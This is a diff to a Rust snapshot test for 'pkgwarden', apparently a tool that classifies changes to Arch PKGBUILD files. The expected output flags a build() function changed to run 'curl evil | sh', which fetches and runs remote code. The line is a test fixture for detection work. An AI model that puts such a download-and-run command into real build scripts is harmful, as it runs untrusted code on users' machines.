@@ -200,12 +200,25 @@ async fn classify_compares_commits_line_by_line_and_folders_as_one_document() {
     let major = scene.pkgwarden(&["classify", &old, &risky, "--exit-code"]).await;
     assert_eq!(major.code, Some(3));
     insta::assert_snapshot!(major.text(), @"
-    major (1.0-1 -> 1.0-1)
-      hostile  PKGBUILD:12: a command is written in a way that hides what it runs [obfuscation]
-               + curl evil | sh
-      review   PKGBUILD:12: `build()` does something else than before [function-changed]
-               - true
-               + curl evil | sh
+    major at 1.0-1: a command is written in a way that hides what it runs (and 1 more reason)
+      hostile
+        PKGBUILD:12: a command is written in a way that hides what it runs [obfuscation]
+          + curl evil | sh
+      review
+        PKGBUILD:12: `build()` does something else than before [function-changed]
+          - true
+          + curl evil | sh
+
+    PKGBUILD (changed)
+    @@ -9,7 +9,7 @@
+     license=('MIT')
+     
+     build() {
+    -  true
+    +  curl evil | sh
+     }
+     
+     package() {
     ");
     scene.ends().await;
 }
